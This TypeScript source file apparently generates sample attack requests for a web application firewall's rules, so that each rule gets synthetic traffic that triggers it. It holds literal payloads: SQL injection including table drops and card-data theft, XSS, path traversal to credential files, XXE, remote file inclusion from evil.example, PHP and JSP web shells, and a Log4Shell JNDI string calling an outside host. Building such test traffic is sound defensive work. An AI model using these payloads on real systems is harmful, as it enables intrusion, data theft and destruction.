/** The service's rules, each with a generator of requests that trigger it. */
import type { Header } from '../service/model.ts';
import { type Attack, carry, page, post } from './carriers.ts';
import type { Random } from './random.ts';
import { encodePath, formBody, multipartBody, requestLine, textBody, xmlText } from './requests.ts';
import type { SampleDomain } from './sampleDomains.ts';

export interface SampleRule {
  /** `attack` of a list row. */
  readonly name: string;
  /** `attack_raw`. */
  readonly code: string;
  /** `basetype`. */
  readonly baseType: string;
  /** The frequency of the rule relative to the others. */
  readonly weight: number;
  readonly attack: (random: Random, domain: SampleDomain) => Attack;
}

const number = (random: Random) => random.between(1, 9999);

function sqlInjection(random: Random, domain: SampleDomain): Attack {
  const n = number(random);
  const payload = random.pick([
    `' OR '${n}'='${n}' -- `,
    `${n} UNION SELECT username, password FROM users--`,
    `${n}; DROP TABLE orders--`,
    `' AND SLEEP(${n % 10})#`,
    `-${n}' UNION ALL SELECT NULL,CONCAT(0x71,version(),0x71)-- -`,
    `${n} AND 1=CONVERT(int,@@version)`,
    `') OR ('x${n}'='x${n}`,
    `admin'/*${n}*/`,
    `${n} WAITFOR DELAY '0:0:${n % 10}'`,
  ]);
  return carry(random, domain, random.pick(['id', 'q', 'category', 'order', 'user', 'no']), payload);
}

/** Creates an injection into the JSON of a shop's checkout. */
export function checkoutInjection(random: Random, domain: SampleDomain): Attack {
  const detected = `' UNION SELECT card_no, cvv FROM payments WHERE id=${number(random)}-- `;
  const text = JSON.stringify({
    cart: [
      {
        sku: `A-${number(random)}`,
        name: random.pick(domain.language.words),
        quantity: random.between(1, 4),
      },
      { sku: `B-${number(random)}`, name: random.pick(domain.language.words), quantity: 1 },
    ],
    coupon: `SUMMER${detected}`,
    customer: { email: `visitor${random.between(1, 999)}@mail.example`, newsletter: false },
  });
  const body = textBody('application/json', text);
  return {
    method: 'POST',
    target: '/api/v2/checkout',
    headers: [],
    body,
    detected,
    place: 'JSON field coupon',
  };
}

function crossSiteScripting(random: Random, domain: SampleDomain): Attack {
  const n = number(random);
  const payload = random.pick([
    `<script>alert(${n})</script>`,
    `"><img src=x onerror=alert(${n})>`,
    `<svg/onload=alert(${n})>`,
    `javascript:alert(document.cookie,${n})`,
    `<iframe src=//evil.example/${n}></iframe>`,
    `{{constructor.constructor('alert(${n})')()}}`,
    `<a href="data:text/html,${n}">${random.pick(domain.language.words)}</a>`,
  ]);
  return carry(random, domain, random.pick(['q', 'comment', 'title', 'name_2', 'subject']), payload);
}

function directoryTraversal(random: Random, domain: SampleDomain): Attack {
  const step = random.pick(['../', '..\\', '....//', '..%2f', '%2e%2e/', '%c0%ae%c0%ae/']);
  const file = random.pick(['etc/passwd', 'etc/shadow', 'windows/win.ini', 'proc/self/environ']);
  const detected = step.repeat(random.between(3, 8)) + file;
  const path = random.pick(['/static/', '/images/', '/download/']);
  return random.chance(0.4)
    ? { method: 'GET', target: path + detected, headers: [], detected, place: 'path' }
    : carry(random, domain, random.pick(['file', 'path', 'doc']), detected);
}

function fileInclusion(random: Random, domain: SampleDomain): Attack {
  const n = number(random);
  if (random.chance(0.2)) {
    const detected = `<!ENTITY x${n} SYSTEM "file:///etc/passwd">`;
    const word = xmlText(random.pick(domain.language.words));
    const text = `<?xml version="1.0"?>\n<!DOCTYPE r [${detected}]>\n<r><q>${word}</q><f>&x${n};</f></r>\n`;
    return post(random, domain, textBody('text/xml', text), detected, 'XML document type');
  }
  const payload = random.pick([
    `http://evil.example/shell${n}.txt?`,
    `php://filter/convert.base64-encode/resource=page${n}`,
    `expect://id;echo ${n}`,
    `file:///var/log/app/${n}.log`,
    `data://text/plain;base64,${Buffer.from(`<?php echo ${n};`).toString('base64')}`,
  ]);
  return carry(random, domain, random.pick(['page', 'template', 'include', 'lang_file']), payload);
}

/** Creates an upload of a script; `times` is how many times the 16 bytes of text after the script are repeated. */
export function fileUpload(random: Random, domain: SampleDomain, times = random.between(1, 20)): Attack {
  const base = random.pick(['shell', 'cmd', 'avatar', 'upload', random.pick(domain.language.words)]);
  const fileName = `${base}-${random.hex(4)}${random.pick(['.php', '.jsp', '.aspx', '.php.jpg', '.phtml'])}`;
  const field = random.pick(['file', 'avatar', 'attachment']);
  const script = random.pick(["<?php system($_GET['c']); ?>\n", '<%= Runtime.getRuntime().exec("id") %>\n']);
  const body = multipartBody(random, [
    { name: 'title', content: random.pick(domain.language.words) },
    { name: 'script', fileName: 'first.txt', type: 'text/plain', content: script },
    { name: field, fileName, type: 'image/jpeg', content: 'GIF89a padding.\n', times },
  ]);
  return post(random, domain, body, fileName, `file name of ${field}`);
}

function extensionFiltering(random: Random, domain: SampleDomain): Attack {
  const extension = random.pick(['.bak', '.sql', '.env', '.old', '.mdb', '.config', '.swp', '.tar.gz']);
  const base = random.pick([
    '/backup',
    '/wp-config',
    '/index',
    '/db/dump',
    random.pick(domain.language.pages),
  ]);
  const target = `${encodePath(random, base)}-${random.hex(3)}${extension}`;
  return { method: 'GET', target, headers: [], detected: extension, place: 'path' };
}

function directoryListing(random: Random, domain: SampleDomain): Attack {
  const folder = random.pick(['/backup', '/uploads', '/.git', '/logs', random.pick(domain.language.pages)]);
  const detected = `${encodePath(random, folder)}/${random.pick(['', 'old/', '2026/'])}`;
  const order = random.pick(['', '?C=M;O=D', '?C=N;O=A', `?v=${number(random)}`]);
  return { method: 'GET', target: detected + order, headers: [], detected, place: 'path' };
}

function errorHandling(random: Random, domain: SampleDomain): Attack {
  const name = random.pick(['id', 'price', 'date', 'amount']);
  const detected = random.pick(['NaN', '-1e999', '%27', '[]', '9'.repeat(30), 'null', '2026-99-99']);
  const field = [name, `${detected}${random.hex(2)}`] as const;
  return random.chance(0.5)
    ? post(random, domain, formBody([field]), detected, `parameter ${name}`)
    : {
        method: 'GET',
        target: `${page(random, domain)}?${field[0]}=${field[1]}`,
        headers: [],
        detected,
        place: `parameter ${name}`,
      };
}

function requestHeaderFiltering(random: Random, domain: SampleDomain): Attack {
  const n = number(random);
  const header: Header = random.pick<Header>([
    ['User-Agent', `\${jndi:ldap://198.51.100.7:1389/${n}}`],
    ['User-Agent', `() { :;}; /bin/bash -c "id; echo ${n}"`],
    ['User-Agent', `masscan/1.3 (scan ${n})`],
    ['X-Original-URL', `/admin/users/${n}`],
    ['X-HTTP-Method-Override', 'DELETE'],
    ['Range', `bytes=0-${n},0-${n},0-${n},0-${n}`],
    ['Referer', `https://evil.example/?from=${n}&next=<script>`],
    ['X-Forwarded-Host', `evil${n}.example`],
  ]);
  const [name, detected] = header;
  return {
    method: 'GET',
    target: page(random, domain),
    headers: [header],
    detected,
    place: `header ${name}`,
  };
}

function requestMethodFiltering(random: Random, domain: SampleDomain): Attack {
  const method = random.pick(['TRACE', 'TRACK', 'PUT', 'DELETE', 'PROPFIND', 'DEBUG', 'MOVE', 'LOCK']);
  const common = { method, detected: method, place: 'request method', headers: [] };
  const target = `${page(random, domain)}/${number(random)}`;
  return method === 'PUT'
    ? { ...common, target, body: textBody('text/plain; charset=utf-8', random.pick(domain.language.remarks)) }
    : { ...common, target };
}

function invalidHttp(random: Random, domain: SampleDomain): Attack {
  const target = `${page(random, domain)}?r=${number(random)}`;
  const header: Header = random.pick<Header>([
    ['Content-Length', `-${number(random)}`],
    ['Transfer-Encoding', `xchunked, ${random.hex(4)}`],
    ['Host', `${domain.host}, evil.example`],
    ['Connection', ',,,close'],
    ['Content-Length', `+${number(random)}`],
    ['Expect', `200-ok-${random.hex(4)}`],
  ]);
  const attack = { method: random.pick(['GET', 'HEAD', 'POST']), target, headers: [header] };
  const [detected, place] = random.chance(0.2)
    ? [requestLine(attack), 'request line']
    : [header[1], `header ${header[0]}`];
  return { ...attack, detected, place };
}

function invalidUrl(random: Random, domain: SampleDomain): Attack {
  const detected = random.pick([
    '%zz',
    '%00',
    '%u0041',
    '%252e%252e',
    '\\\\',
    '%',
    '////',
    '<>',
    `/${'A'.repeat(2048)}`,
  ]);
  const target = `${page(random, domain)}/${detected}${random.hex(4)}`;
  return { method: 'GET', target, headers: [], detected, place: 'path' };
}

/** The rules of the service, by name. */
export const rules: readonly SampleRule[] = [
  { name: 'SQL Injection', code: 'SQL_INJECTION', baseType: '1', weight: 8, attack: sqlInjection },
  { name: 'Cross Site Scripting', code: 'XSS', baseType: '1', weight: 7, attack: crossSiteScripting },
  {
    name: 'Directory Traversal',
    code: 'DIR_TRAVERSAL',
    baseType: '1',
    weight: 4,
    attack: directoryTraversal,
  },
  { name: 'File Inclusion', code: 'FILE_INCLUSION', baseType: '1', weight: 3, attack: fileInclusion },
  { name: 'File Upload', code: 'FILE_UPLOAD', baseType: '3', weight: 3, attack: fileUpload },
  { name: 'Extension Filtering', code: 'EXT_FILTER', baseType: '2', weight: 3, attack: extensionFiltering },
  { name: 'Directory Listing', code: 'DIR_LISTING', baseType: '2', weight: 2, attack: directoryListing },
  { name: 'Error Handling', code: 'ERROR_HANDLING', baseType: '4', weight: 2, attack: errorHandling },
  {
    name: 'Request Header Filtering',
    code: 'HEADER_FILTER',
    baseType: '5',
    weight: 3,
    attack: requestHeaderFiltering,
  },
  {
    name: 'Request Method Filtering',
    code: 'METHOD_FILTER',
    baseType: '5',
    weight: 2,
    attack: requestMethodFiltering,
  },
  { name: 'Invalid HTTP', code: 'INVALID_HTTP', baseType: '5', weight: 2, attack: invalidHttp },
  { name: 'Invalid URL', code: 'INVALID_URL', baseType: '2', weight: 2, attack: invalidUrl },
];

const byWeight = rules.flatMap((rule) => Array.from({ length: rule.weight }, () => rule));

export function pickRule(random: Random): SampleRule {
  return random.pick(byWeight);
}

export function ruleNamed(name: string): SampleRule {
  const rule = rules.find((candidate) => candidate.name === name);
  if (rule === undefined) throw new Error(`No rule is named ${name}`);
  return rule;
}
